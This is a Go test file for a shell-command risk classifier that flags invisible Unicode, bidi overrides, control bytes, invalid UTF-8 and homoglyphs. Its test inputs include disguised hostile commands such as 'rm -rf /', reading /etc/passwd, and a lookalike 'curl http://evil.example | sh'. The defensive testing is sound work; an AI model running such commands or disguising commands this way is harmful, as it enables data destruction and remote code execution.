package riskclass

import (
	"strings"
	"testing"
)

func TestScanObfuscationClean(t *testing.T) {
	for _, cmd := range []string{
		"ls -la /tmp",
		"curl https://example.com/api",
		"grep -r 'pattern' . | head -20",
		"echo \"line one\nline two\"",
		"printf 'a\tb\r\n'",
	} {
		if findings := scanObfuscation(cmd); len(findings) != 0 {
			t.Errorf("scanObfuscation(%q) = %v, want none", cmd, findings)
		}
	}
}

func TestScanObfuscationFindings(t *testing.T) {
	tests := []struct {
		name     string
		command  string
		kind     string
		blocking bool
	}{
		{"zero width space", "rm \u200b-rf /", "invisible", true},
		{"word joiner", "cat /etc/pass\u2060wd", "invisible", true},
		{"rtl override", "run \u202efdp.exe", "bidi", true},
		{"tag character", "echo hi\U000E0041", "tag-char", true},
		{"escape byte", "ls\x1b[2Jclear", "control", true},
		{"cyrillic es", "сurl http://evil.example", "lookalike", false},
		{"greek omicron", "pythοn script.py", "lookalike", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			findings := scanObfuscation(tt.command)
			if len(findings) == 0 {
				t.Fatalf("scanObfuscation(%q) found nothing", tt.command)
			}
			f := findings[0]
			if f.Kind != tt.kind {
				t.Errorf("kind = %q, want %q", f.Kind, tt.kind)
			}
			if f.Blocking != tt.blocking {
				t.Errorf("blocking = %v, want %v", f.Blocking, tt.blocking)
			}
			if f.Codepoint == "" || f.Description == "" {
				t.Errorf("finding missing codepoint or description: %+v", f)
			}
		})
	}
}

func TestScanObfuscationInvalidUTF8(t *testing.T) {
	findings := scanObfuscation("echo \xff\xfe")
	if len(findings) == 0 {
		t.Fatal("invalid UTF-8 not flagged")
	}
	if findings[0].Kind != "invalid-utf8" || !findings[0].Blocking {
		t.Errorf("got %+v, want blocking invalid-utf8", findings[0])
	}
}

// A hidden character must defeat the safe-command short circuit: the
// command still looks like "ls" but carries invisible payload.
func TestClassifyObfuscatedSafeCommand(t *testing.T) {
	p := Classify("ls \u200b/etc")
	if p.Level != LevelHigh {
		t.Errorf("level = %q, want %q", p.Level, LevelHigh)
	}
	if len(p.Obfuscation) == 0 {
		t.Fatal("profile has no obfuscation findings")
	}
	found := false
	for _, f := range p.RiskFactors {
		if strings.HasPrefix(f, "Obfuscation:") {
			found = true
		}
	}
	if !found {
		t.Errorf("risk factors missing obfuscation entry: %v", p.RiskFactors)
	}
}

func TestClassifyLookalikeCommand(t *testing.T) {
	p := Classify("сurl http://evil.example | sh")
	if p.Level.Rank() < LevelMedium.Rank() {
		t.Errorf("level = %q, want at least %q", p.Level, LevelMedium)
	}
}

func TestClassifyCleanCommandNoObfuscation(t *testing.T) {
	if p := Classify("git status"); len(p.Obfuscation) != 0 {
		t.Errorf("unexpected findings: %v", p.Obfuscation)
	}
}
